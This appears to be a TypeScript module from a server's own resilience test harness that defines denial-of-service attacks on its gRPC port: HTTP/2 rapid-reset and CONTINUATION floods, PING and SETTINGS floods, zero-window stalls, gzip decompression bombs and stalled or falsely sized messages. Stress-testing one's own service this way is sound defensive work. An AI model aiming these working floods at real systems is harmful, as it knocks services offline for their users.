/** Hostile callers of the RPC port. */
import { gzipSync } from "node:zlib";
import { type Attack, siege, type Target } from "./attack.js";
import { post } from "./http-attacks.js";
import { callHeaders, END_HEADERS, END_STREAM, frame, headerBlock, PREFACE, settings, word } from "./http2-frames.js";

const GET_APP = "/aisle.v1.AppService/GetApp";
const rpc = ({ rpcPort }: Target) => rpcPort;
const opening = Buffer.concat([PREFACE, settings()]);
const times = (count: number, of: (n: number) => Uint8Array) =>
  Buffer.concat(Array.from({ length: count }, (_, n) => of(n)));

/** A gRPC message with a field 1 of text. */
function message(text: string): Buffer {
  const field = Buffer.concat([Buffer.from([0x0a, text.length]), Buffer.from(text)]);
  return Buffer.concat([Buffer.from([0]), word(field.length), field]);
}

/** Streams that are opened, each with these frames, from the first of a connection on. */
const calls = (count: number, of: (id: number) => readonly Uint8Array[]) =>
  times(count, (n) => Buffer.concat(of(2 * n + 1)));

const flood = (name: string, what: string, bytes: Uint8Array, first: Uint8Array = Buffer.alloc(0)): Attack =>
  siege(name, what, {
    port: rpc,
    connections: 8,
    first: () => Buffer.concat([opening, first]),
    again: { everyMs: 50, bytes: () => bytes },
  });

const bomb = gzipSync(Buffer.alloc(32 * 1024 * 1024));

/** A message as large as one may be, without its last byte. */
const largest = 4 * 1024 * 1024 - 5;
const stalled = post(
  GET_APP,
  "application/grpc-web+proto",
  Buffer.concat([Buffer.from([0]), word(largest), Buffer.alloc(largest, "a")]),
).subarray(0, -1);

export const RPC_ATTACKS: readonly Attack[] = [
  siege("rapid reset", "8 connections, each opens and resets 1,000 streams at once, then comes again", {
    port: rpc,
    connections: 8,
    first: () =>
      Buffer.concat([
        opening,
        calls(1000, (id) => [
          frame("headers", END_HEADERS, id, callHeaders(GET_APP)),
          frame("resetStream", 0, id, word(8)),
        ]),
      ]),
  }),
  siege("made to reset", "8 connections, each makes us reset 1,000 streams, then comes again", {
    port: rpc,
    connections: 8,
    first: () =>
      Buffer.concat([
        opening,
        calls(1000, (id) => [
          frame("headers", END_HEADERS, id, callHeaders(GET_APP)),
          frame("windowUpdate", 0, id, word(0)),
        ]),
      ]),
  }),
  flood(
    "headers without an end",
    "8 connections, each sends 20 KB of CONTINUATION twenty times a second",
    times(20, () => frame("continuation", 0, 1, headerBlock([["x", "y".repeat(1000)]]))),
    frame("headers", 0, 1, callHeaders(GET_APP)),
  ),
  flood(
    "pings",
    "8 connections, each sends 1,000 PINGs twenty times a second",
    times(1000, () => frame("ping", 0, 0, Buffer.alloc(8))),
  ),
  flood(
    "settings",
    "8 connections, each sends 1,000 SETTINGS twenty times a second",
    times(1000, () => settings([[4, 65_535]])),
  ),
  siege("no window", "5 connections, each asks 20 times for a page of events and gives no window for it", {
    port: rpc,
    connections: 5,
    first: ({ appId }) =>
      Buffer.concat([
        PREFACE,
        settings([[4, 0]]),
        calls(20, (id) => [
          frame("headers", END_HEADERS, id, callHeaders("/aisle.v1.EventService/ListEvents")),
          frame("data", END_STREAM, id, message(appId)),
        ]),
      ]),
  }),
  siege("compressed bombs", "4 connections, each sends 32 MiB of zeros as 32 KB of gzip four times a second", {
    port: rpc,
    connections: 4,
    again: {
      everyMs: 250,
      afterAnswer: true,
      bytes: () => post(GET_APP, "application/proto", bomb, "Content-Encoding: gzip\r\n"),
    },
  }),
  siege("large messages that stall", "100 connections that send a message of 4 MiB but for its last byte", {
    port: rpc,
    connections: 100,
    first: () => stalled,
  }),
  siege("lengths that lie", "20 connections, each announces a message of 4 GiB ten times a second", {
    port: rpc,
    connections: 20,
    again: {
      everyMs: 100,
      afterAnswer: true,
      bytes: () => post(GET_APP, "application/grpc-web+proto", Buffer.from([0, 0xff, 0xff, 0xff, 0xff, 1])),
    },
  }),
];
